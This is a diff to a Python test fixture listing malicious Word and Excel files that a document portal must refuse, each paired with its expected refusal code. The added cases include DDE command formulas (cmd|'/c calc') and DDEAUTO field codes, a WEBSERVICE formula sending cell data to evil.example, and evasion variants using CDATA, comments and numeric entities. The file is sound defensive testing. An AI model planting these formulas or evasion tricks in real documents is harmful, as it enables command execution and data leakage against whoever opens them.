@@ -1,6 +1,6 @@
 """Word, Excel and LibreOffice documents nobody should publish: name → (what builds it, code of the refusal)."""
 
-from tests.factories.documents import EXCEL, OLE, OPEN, WORD, docx, odt, relations, types, xlsx, zipped
+from tests.factories.documents import EXCEL, OLE, OPEN, WORD, W, docx, odt, relations, types, xlsx, zipped
 from tests.tetouan_portal.lib.hostile_archives import chart_of, locked
 
 BILLION = "".join(
@@ -77,6 +77,10 @@ WORD_AND_EXCEL = {
     "Word: picture in a field": (field('INCLUDEPICTURE "http://evil.example/a.png"'), "external"),
     "Excel: command in a cell": (lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f></c>"), "external"),
     "Excel: command, its sign spelled out": (lambda: xlsx(cells="<c><f>cmd|&#39;/c calc&#39;!A0</f></c>"), "external"),
+    "Excel: command in a sheet with a field": (
+        lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f><instrText>PAGE</instrText></c>"),
+        "external",
+    ),
     "Excel: command under a name": (
         lambda: xlsx(defined="<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"),
         "external",
@@ -84,6 +88,43 @@ WORD_AND_EXCEL = {
     "Excel: question to the web": (
         lambda: xlsx(cells='<c><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>'),
         "external",
+    ),
+    "Excel: command, its sign in a section": (
+        lambda: xlsx(cells="<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"),
+        "external",
+    ),
+    "Excel: question to the web, divided by a comment": (
+        lambda: xlsx(cells='<c><f>WEB<!-- -->SERVICE("https://evil.example")</f></c>'),
+        "external",
+    ),
+    "Excel: question to the web in letters by number": (
+        lambda: xlsx(cells='<c><f>&#87;EBSERVICE("https://evil.example")</f></c>'),
+        "external",
+    ),
+    "Word: command between two quotation marks": (
+        lambda: docx(
+            body="".join(
+                f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText></w:r>'
+                for code in ('PAGE "', "DDEAUTO cmd", '"')
+            )
+        ),
+        "external",
+    ),
+    "Word: command in a part elsewhere": (
+        lambda: docx({"x/y.xml": f"<w:hdr {W}><w:fldSimple w:instr='DDE cmd'/></w:hdr>"}),
+        "external",
+    ),
+    "Word: text under the name of a picture": (
+        lambda: docx({"word/a.png": "<a/>"}, extra=typed(f"{WORD}.footer+xml").replace("x.xml", "a.png")),
+        "disguised",
+    ),
+    "Word: relations in capitals": (
+        lambda: docx({"word/_rels/DOCUMENT.XML.RELS": relations(("image", "http://evil.example/a.png", "External"))}),
+        "external",
+    ),
+    "Word: XML in another encoding, undeclared": (
+        lambda: docx({"word/header1.xml": f"<w:hdr {W}><w:fldSimple w:instr='DDE cmd'/></w:hdr>".encode("utf-16")}),
+        "damaged",
     ),
     "Excel: other workbook": (excel_relations("externalLink", "externalLinks/externalLink1.xml"), "external"),
     "Excel: connection": (excel_relations("connections", "connections.xml"), "external"),
